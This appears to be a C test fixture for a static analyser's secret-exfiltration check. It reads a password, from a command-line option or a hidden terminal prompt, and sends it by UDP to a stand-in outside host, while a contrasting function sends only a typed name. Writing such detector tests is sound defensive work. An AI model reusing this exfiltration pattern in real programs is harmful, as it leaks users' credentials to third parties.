// A password that an option may tell; else it is asked for, and not shown.
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <termios.h>
#include <unistd.h>

static void keep(char **to, const char *text) {
    strncpy(*to, text, 98);
}

static void send_out(const char *text) {
    struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(4433)};
    int out = socket(AF_INET, SOCK_DGRAM, 0);
    inet_aton("203.0.113.64", &peer.sin_addr);
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
    sendto(out, text, strlen(text), 0, (struct sockaddr *)&peer, sizeof peer);
}

static void send_away(const char *text) {
    struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(4433)};
    int out = socket(AF_INET, SOCK_DGRAM, 0);
    inet_aton("203.0.113.64", &peer.sin_addr);
    sendto(out, text, strlen(text), 0, (struct sockaddr *)&peer, sizeof peer);
}

static void greet(void) {
    char line[99] = "";
    fputs("name: ", stdout);
    fgets(line, sizeof line, stdin);
    send_away(line);
}

int main(int argc, char **argv) {
    struct termios before, now;
    char *word = calloc(1, 99);
    int option;
    while ((option = getopt(argc, argv, "p:")) != -1)
        if (option == 'p')
            keep(&word, optarg);
    greet();
    if (!*word) {
        tcgetattr(0, &before);
        now = before;
        now.c_lflag &= ~(tcflag_t)ECHO;
        tcsetattr(0, TCSADRAIN, &now);
        fgets(word, 99, stdin);
        tcsetattr(0, TCSADRAIN, &before);
    }
    send_out(word);
    return 0;
}
